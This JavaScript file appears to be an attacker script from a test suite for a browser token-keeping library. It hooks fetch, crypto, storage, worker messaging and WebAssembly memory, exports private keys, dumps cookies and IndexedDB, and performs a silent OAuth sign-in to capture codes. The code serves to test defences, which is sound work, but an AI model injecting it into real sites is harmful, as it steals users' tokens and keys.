// The attacker's script, in a page or in a worker. It says what it found to `carry`, which the test puts into pages, or to a page.
(() => {
  if (globalThis.attack !== undefined) {
    return;
  }
  const native = {
    stringify: JSON.stringify,
    parse: JSON.parse,
    then: Promise.prototype.then,
    exportKey: SubtleCrypto.prototype.exportKey,
    digest: SubtleCrypto.prototype.digest,
    post: BroadcastChannel.prototype.postMessage,
    SharedWorker: globalThis.SharedWorker,
    Worker: globalThis.Worker,
    MessageChannel,
    Request,
    Response,
    Headers,
    isPage: typeof document !== "undefined",
  };
  const channel = new BroadcastChannel("attack");
  const carry = globalThis.carry ?? ((text) => native.post.call(channel, text));
  if (globalThis.carry !== undefined) {
    channel.onmessage = ({ data }) => carry(data);
  }

  const said = new Set();
  function say(row, what) {
    const text = native.stringify({ row, ...what });
    if (!said.has(text)) {
      said.add(text);
      carry(text);
    }
  }

  let busy = false;
  /** Says whatever looks like a token in these. */
  function note(row, ...values) {
    if (busy) {
      return;
    }
    busy = true;
    try {
      for (const text of texts(values, 0)) {
        for (const like of text.match(/[\w-]{40,}(?:\.[\w-]+){0,2}/g) ?? []) {
          say(row, { text: like });
        }
      }
    } finally {
      busy = false;
    }
  }

  function* texts(value, depth) {
    if (typeof value === "string") {
      yield value;
    } else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
      const bytes = ArrayBuffer.isView(value) ? new Uint8Array(value.buffer, value.byteOffset, value.byteLength) : new Uint8Array(value);
      const latin = latin1(bytes);
      yield latin;
      if (bytes.length <= 1024) {
        yield btoa(latin).replace(/=+$/, "").replaceAll("+", "-").replaceAll("/", "_");
      }
    } else if (typeof value === "object" && value !== null && depth <= 4) {
      if (value instanceof native.Request || value instanceof native.Response) {
        yield value.url;
        yield* texts(value.headers, depth);
      } else if (value[Symbol.iterator] !== undefined && !Array.isArray(value)) {
        for (const entry of value) {
          yield* texts(entry, depth + 1);
        }
      } else {
        for (const key of Object.keys(value).slice(0, 100)) {
          try {
            yield* texts(value[key], depth + 1);
          } catch {
            // What cannot be read is not found.
          }
        }
      }
    }
  }

  function latin1(bytes) {
    const parts = [];
    for (let start = 0; start < bytes.length; start += 32_768) {
      parts.push(String.fromCharCode.apply(undefined, bytes.subarray(start, start + 32_768)));
    }
    return parts.join("");
  }

  /** Says what is in a body, and leaves it unread. */
  function read(row, thing) {
    if (!/wasm|javascript/.test(thing.headers.get("content-type"))) {
      then(thing.clone().text(), (text) => note(row, text));
    }
  }

  function then(promise, heard) {
    native.then.call(promise, heard, () => {});
  }

  function wrap(object, name, around) {
    const original = object?.[name];
    if (typeof original === "function") {
      object[name] = function (...args) {
        return around.call(this, (...given) => original.apply(this, given), args);
      };
    }
  }

  function wrapClass(name, around) {
    if (typeof globalThis[name] === "function") {
      globalThis[name] = new Proxy(globalThis[name], {
        construct: (original, args) => around((...given) => Reflect.construct(original, given), args),
      });
    }
  }

  const seeing = (row) => (go, args) => {
    note(row, args);
    const result = go(...args);
    note(row, result);
    return result;
  };

  const eventually = (row, heard = () => {}) => (go, args) => {
    note(row, args);
    const result = go(...args);
    then(result, (value) => {
      note(row, value);
      heard(value);
    });
    return result;
  };

  function takeKey(row, key) {
    if (key instanceof CryptoKey && key.type === "private") {
      then(native.exportKey.call(crypto.subtle, "jwk", key), (jwk) => say(row, { key: jwk }));
    }
  }

  const memories = new Set();
  const instances = ({ instance, exports } = {}) => keepMemories(exports ?? instance?.exports ?? {});
  function keepMemories(exports) {
    Object.values(exports).forEach((value) => value instanceof WebAssembly.Memory && memories.add(value));
  }

  const patches = {
    network(row) {
      wrap(globalThis, "fetch", (go, args) => {
        note(row, args);
        args[0] instanceof native.Request && read(row, args[0]);
        const answer = go(...args);
        then(answer, (response) => (note(row, response), read(row, response)));
        return answer;
      });
      ["Headers", "Request", "Response"].forEach((name) => wrapClass(name, seeing(row)));
      ["append", "set", "get"].forEach((name) => wrap(native.Headers.prototype, name, seeing(row)));
      ["text", "json", "arrayBuffer"].forEach((name) => wrap(native.Response.prototype, name, eventually(row)));
      ["open", "setRequestHeader", "send"].forEach((name) => wrap(globalThis.XMLHttpRequest?.prototype, name, seeing(row)));
    },

    language(row) {
      wrap(Promise.prototype, "then", function (go, [resolved, rejected]) {
        const heard = typeof resolved === "function" ? (value) => (note(row, value), resolved(value)) : resolved;
        return go(heard, rejected);
      });
      ["parse", "stringify"].forEach((name) => wrap(JSON, name, seeing(row)));
      ["get", "set", "apply", "construct"].forEach((name) => wrap(Reflect, name, seeing(row)));
      wrap(TextDecoder.prototype, "decode", seeing(row));
      ["encode", "encodeInto"].forEach((name) => wrap(TextEncoder.prototype, name, seeing(row)));
      const { charCodeAt } = String.prototype;
      String.prototype.charCodeAt = function (index) {
        index === 0 && note(row, `${this}`);
        return charCodeAt.call(this, index);
      };
    },

    wasm() {
      ["instantiate", "instantiateStreaming"].forEach((name) => wrap(WebAssembly, name, (go, args) => {
        const made = go(...args);
        then(made, instances);
        return made;
      }));
      WebAssembly.Instance = new Proxy(WebAssembly.Instance, {
        construct: (original, args) => {
          const made = new original(...args);
          instances(made);
          return made;
        },
      });
    },

    messages(row) {
      for (const kind of ["SharedWorker", "Worker"]) {
        wrapClass(kind, (go, [script, options]) => {
          note(row, options);
          const worker = go(script, options);
          attack.started = { kind, worker, script, options };
          return worker;
        });
      }
      for (const name of ["MessagePort", "Worker", "BroadcastChannel"]) {
        wrap(globalThis[name]?.prototype, "postMessage", (go, [message, ...rest]) => {
          note(row, message);
          if (message?.[0] === "open") {
            attack.opening = message[1];
          }
          return go(message, ...rest);
        });
      }
      wrap(EventTarget.prototype, "addEventListener", (go, [type, listener, ...rest]) => {
        const hears = type === "message" && typeof listener === "function";
        return go(type, hears ? (event) => (note(row, event.data), listener(event)) : listener, ...rest);
      });
    },

    crypto(row) {
      wrap(SubtleCrypto.prototype, "generateKey", (go, [algorithm, , ...rest]) => {
        const made = go(algorithm, true, ...rest);
        then(made, ({ privateKey }) => takeKey(row, privateKey));
        return made;
      });
      for (const name of ["sign", "verify", "digest", "importKey", "encrypt", "decrypt", "deriveKey", "deriveBits"]) {
        wrap(SubtleCrypto.prototype, name, eventually(row));
      }
      wrap(Crypto.prototype, "getRandomValues", seeing(row));
    },

    storage(row) {
      ["getItem", "setItem"].forEach((name) => wrap(globalThis.Storage?.prototype, name, seeing(row)));
      ["add", "put"].forEach((name) => wrap(IDBObjectStore.prototype, name, (go, [value, ...rest]) => {
        note(row, value);
        return go(value, ...rest);
      }));
      const { get } = Object.getOwnPropertyDescriptor(IDBRequest.prototype, "result");
      Object.defineProperty(IDBRequest.prototype, "result", {
        get() {
          const result = get.call(this);
          note(row, result);
          return result;
        },
      });
    },
  };

  const attack = { native, note, say, patches, memories };
  Object.defineProperty(globalThis, "attack", { value: attack, enumerable: false });

  /** Replaces what the language and the browser have, and notes what goes by. */
  attack.patch = (rows) => Object.entries(rows).forEach(([name, row]) => patches[name](row));

  /** Looks into all that is stored for this origin. */
  attack.storage = async (row) => {
    note(row, { ...localStorage }, { ...sessionStorage }, document.cookie, await cookieStore.getAll());
    const done = (request) => new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = request.onblocked = reject;
    });
    for (const { name } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const rows = await done(database.transaction(store).objectStore(store).getAll());
        note(row, rows);
        rows.flatMap((row) => Object.values(Object(row))).forEach((value) => takeKey(row, value));
      }
      database.close();
    }
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      (await cache.matchAll()).forEach((response) => read(row, response));
    }
  };

  /** Walks from object to object, by whatever leads from one to the next. */
  attack.walk = (row, ...roots) => {
    const met = new Set([attack, carry]);
    const next = [...roots];
    let count = 0;
    while (next.length > 0 && count++ < 60_000) {
      const object = next.shift();
      try {
        if (object instanceof WebAssembly.Memory) {
          memories.add(object);
        }
        const meet = (value) => {
          if (typeof value === "string") {
            note(row, value);
          } else if (Object(value) === value && !met.has(value)) {
            met.add(value);
            ArrayBuffer.isView(value) || value instanceof ArrayBuffer ? note(row, value) : next.push(value);
          }
        };
        for (let holder = object; holder !== null; holder = Object.getPrototypeOf(holder)) {
          meet(holder);
          for (const key of Reflect.ownKeys(holder)) {
            if (key !== "attack") {
              try {
                meet(object[key]);
              } catch {
                // Not of this object.
              }
            }
          }
        }
        if (object instanceof Map || object instanceof Set) {
          [...object].forEach(meet);
        }
      } catch {
        // Of another origin.
      }
    }
    return count;
  };

  /** Reads each WebAssembly memory that was met, and that of the package, which is the same module for all who import it. */
  attack.scan = async (row, glue) => {
    if (glue !== undefined) {
      const { default: load } = await import(glue);
      keepMemories(await load());
    }
    memories.forEach(({ buffer }) => note(row, buffer));
    return memories.size;
  };

  /** Signs in by itself, with a verifier of its own. Says the code and the verifier. */
  attack.signIn = async (row, { issuer, clientId, resource, scopes }, where) => {
    const encode = (bytes) => btoa(latin1(new Uint8Array(bytes))).replace(/=+$/, "").replaceAll("+", "-").replaceAll("/", "_");
    const verifier = encode(crypto.getRandomValues(new Uint8Array(32)));
    const asked = {
      response_type: "code",
      client_id: clientId,
      redirect_uri: `${location.origin}/callback`,
      scope: scopes,
      resource,
      state: "own",
      code_challenge: encode(await native.digest.call(crypto.subtle, "SHA-256", new TextEncoder().encode(verifier))),
      code_challenge_method: "S256",
      prompt: "none",
    };
    const url = `${issuer}/auth?${new URLSearchParams(asked)}`;
    const opened = { frame, popup }[where](url);
    const address = await back(opened.window);
    opened.remove();
    note(row, address);
    say(row, { text: verifier, redirectUri: asked.redirect_uri });
    return new URL(address).searchParams.get("error");
  };

  function frame(url) {
    const element = document.createElement("iframe");
    element.src = url;
    document.body.append(element);
    return { window: element.contentWindow, remove: () => element.remove() };
  }

  function popup(url) {
    const window = open(url);
    return { window, remove: () => window.close() };
  }

  /** The address that the provider sent a window of ours to, or what a guard there has made of it. */
  async function back(window) {
    for (;;) {
      await new Promise((resolve) => setTimeout(resolve, 5));
      try {
        const address = window[Symbol.for("tokenkeep.response")] ?? window.location.href;
        if (address.includes("state=own")) {
          return address;
        }
      } catch {
        // It is still at the provider.
      }
    }
  }

  /** Speaks to a keep through a port of our own. Gives what it answered until each call that has a name was answered. */
  attack.speak = async (row, port, messages) => {
    const heard = [];
    const named = new Set(messages.filter((message) => message?.[0] === "call" && typeof message[1] === "string").map(([, id]) => id));
    const done = new Promise((resolve) => {
      port.onmessage = ({ data }) => {
        heard.push(data);
        note(row, data);
        named.delete(data[1]) && named.size === 0 && resolve();
      };
    });
    messages.forEach((message) => port.postMessage(message));
    await done;
    return heard;
  };

  /** A port to the worker that the app has started, or to a new one of another name. */
  attack.port = ({ kind, worker, script, options }, name = options.name) => {
    const given = { type: "module", name, extendedLifetime: true };
    if (kind === "SharedWorker") {
      return new native.SharedWorker(script, given).port;
    }
    const { port1, port2 } = new native.MessageChannel();
    (name === options.name ? worker : new native.Worker(script, given)).postMessage(undefined, [port2]);
    return port1;
  };
})();
